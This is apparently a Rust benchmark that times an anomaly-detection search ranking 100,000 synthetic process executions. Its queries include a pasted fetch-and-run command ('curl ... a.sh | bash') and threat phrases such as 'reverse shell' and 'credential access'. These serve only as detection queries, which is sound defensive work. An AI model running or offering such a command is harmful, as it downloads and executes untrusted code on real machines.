//! How long a question takes over 100,000 distinct executions.

use std::time::Duration;

use anomaly_search::{Candidate, Options, Query};
use anomaly_vectorizer::Execution;
use criterion::Criterion;

const ROWS: usize = 100_000;

/// Executions like those of services, shells and builds: none twice, 6 to 60 features each.
fn executions() -> Vec<Execution> {
    let shapes: [(&str, &str, &str); 8] = [
        ("sh", "cron", "sh -c /opt/jobs/{} --quiet >/dev/null 2>&1"),
        ("grep", "check.sh", "grep -q :{} /proc/net/tcp"),
        ("curl", "sh", "curl -fsS -m 5 http://127.0.0.1:8080/health/{}"),
        ("php", "php-fpm8.2", "/usr/bin/php /var/www/app/bin/console task:{} --env=prod --no-interaction"),
        (
            "psql",
            "backup.sh",
            "psql -h /run/postgresql -U backup -At -c 'select count(*) from {} where id > 10'",
        ),
        (
            "rustc",
            "cargo",
            "rustc --crate-name {} --edition=2021 src/lib.rs --error-format=json --crate-type lib --emit=dep-info,metadata,link -C embed-bitcode=no -C debuginfo=2 --out-dir /build/target/debug/deps -L dependency=/build/target/debug/deps --extern serde=/build/target/debug/deps/libserde.rmeta --cap-lints allow",
        ),
        ("tar", "backup.sh", "tar -C /srv/{} -czf /backup/daily.tar.gz ."),
        ("git", "bash", "git -C /srv/app log --oneline -n 20 origin/{}"),
    ];
    let word = |number: usize| -> String {
        let letters = std::iter::successors(Some(number + 26), |rest| (*rest >= 26).then_some(rest / 26));
        letters.map(|rest| char::from(b'a' + (rest % 26) as u8)).collect()
    };
    let make = |number: usize| {
        let (name, parent, line) = shapes[number % shapes.len()];
        let line = line.replace("{}", &word(number));
        let arguments = match line.split_once(" -c ") {
            Some((before, script)) => before.split(' ').chain(["-c", script]).collect(),
            None => line.split(' ').collect(),
        };
        Execution { name: name.into(), parent: parent.into(), arguments, ..Execution::default() }
    };
    (0..ROWS).map(make).collect()
}

fn questions(criterion: &mut Criterion) {
    let executions = executions();
    let candidate = |execution| Candidate {
        execution,
        surroundings: &["no terminal", "no login"],
        count: 1,
        first_seen: 0,
        last_seen: 0,
        meaning: None,
    };
    let mut group = criterion.benchmark_group("100,000 executions");
    group.sample_size(10).measurement_time(Duration::from_secs(5));
    for (name, text) in [
        ("one word", "rsync"),
        ("the article's question", "reverse shell bash outbound connection"),
        ("three terms", "persistence credential access discovery"),
        ("a pasted command", "curl -s http://198.51.100.7/a.sh | bash -s -- --now > /tmp/x"),
    ] {
        group.bench_function(name, |bencher| {
            bencher.iter(|| {
                let query = Query::parse(text).expect("a question");
                query.rank(executions.iter().map(candidate), &Options::default())
            });
        });
    }
    group.finish();
}

fn main() {
    let mut criterion = Criterion::default().configure_from_args();
    questions(&mut criterion);
    criterion.final_summary();
}
